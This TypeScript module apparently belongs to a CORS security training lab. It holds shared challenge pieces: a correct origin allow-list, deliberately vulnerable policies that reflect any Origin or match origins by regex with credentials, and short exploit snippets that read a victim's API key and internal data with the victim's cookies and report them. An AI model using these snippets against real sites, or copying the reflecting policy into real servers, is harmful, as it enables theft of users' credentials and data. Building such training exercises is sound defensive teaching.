import type { ChallengeStage } from './challengeTypes.ts';

/** Parts several challenges share: the usual fix, the usual exploits, the cookie facts. */

/** The victim's registrable domain, e.g. `victim.localhost`. */
export function challengeVictimDomain(stage: ChallengeStage): string {
  return stage.victimDomain;
}

/** The bank's CDN in front of the victim's API, e.g. `http://cdn.victim.localhost:5175`. */
export function challengeVictimCdn(stage: ChallengeStage): string {
  return stage.victimCdn;
}

export function challengeRegexEscape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

/** The fix most challenges share: exactly the victim's app, with credentials. */
export const challengeOnlyTheApp = (stage: ChallengeStage) => ({
  origin: { mode: 'list' as const, allow: [stage.victimApp] },
  credentials: true,
});

/** Reads the API key with the victim's cookies and reports it. */
export const challengeStealKey = `const response = await fetch(\`\${API}/api-key\`, { credentials: 'include' });
report(await response.text());`;

/** Reads the internal data (no login needed), then shows whether the session cookie travels. */
export const challengeStealInternal = `const internal = await fetch(\`\${API}/internal\`, { credentials: 'include' });
report(await internal.text());
// The account needs the session cookie: does it travel from here?
const key = await fetch(\`\${API}/api-key\`, { credentials: 'include' });
report(\`api-key: \${key.status} \${await key.text()}\`);`;

export const challengeCookieFacts =
  'Chromium, Firefox and WebKit (measured in WebKitGTK) send no cookie from a cross-site page or a sandboxed frame, whatever its SameSite (docs/cookies.md).';

/** The classic misconfiguration: reflect any Origin, with credentials. */
export const challengeReflecting = () => ({ origin: { mode: 'reflect' as const }, credentials: true });

/** Reads the API key and reports the status too: the answer may be a 401 when no session arrives. */
export const challengeReadKeyAnswer = `const response = await fetch(\`\${API}/api-key\`, { credentials: 'include' });
report(\`\${response.status} \${await response.text()}\`);`;

/** Allows origins matching one regular expression, with credentials. */
export function challengeRegexPolicy(regex: string, anchor: 'none' | 'start' | 'both') {
  return { origin: { mode: 'list' as const, allow: [{ regex, anchor }] }, credentials: true };
}
